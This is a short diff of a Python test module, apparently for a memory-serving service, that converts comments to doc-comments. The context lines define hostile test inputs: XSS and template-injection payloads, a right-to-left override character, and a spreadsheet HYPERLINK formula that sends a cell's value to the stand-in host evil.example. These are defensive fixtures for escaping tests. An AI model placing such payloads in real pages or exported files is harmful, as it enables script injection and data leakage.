@@ -14,14 +14,14 @@ from jidomem.base.clock import Sources
 
 MEMORIES, AT_ONCE = 2_000, 50
 START, BETWEEN, STEP = datetime(2026, 11, 1, 8, 0, tzinfo=UTC), timedelta(hours=12), timedelta(seconds=20)
-# The moment at which it is served: a day after the last memory.
+#: The moment at which it is served: a day after the last memory.
 NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
-# Text of an agent that a page must not execute.
+#: Text of an agent that a page must not execute.
 HOSTILE = (
     "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
     " {{ 7 * 7 }} javascript:alert(1) \u202edesrever\u202c \U0001f469\u200d\U0001f4bb שלום"
 )
-# The same for names and addresses, and a formula of a spreadsheet.
+#: The same for names and addresses, and a formula of a spreadsheet.
 NAMED = "<svg/onload=document.title='owned'><math href=javascript:alert(1)>{{7*7}}{%x%}${7*7}\u202e" + "W" * 100
 FORMULA = '=HYPERLINK("http://evil.example/" & A1, "look")'
 LONG = "word " * 50_000
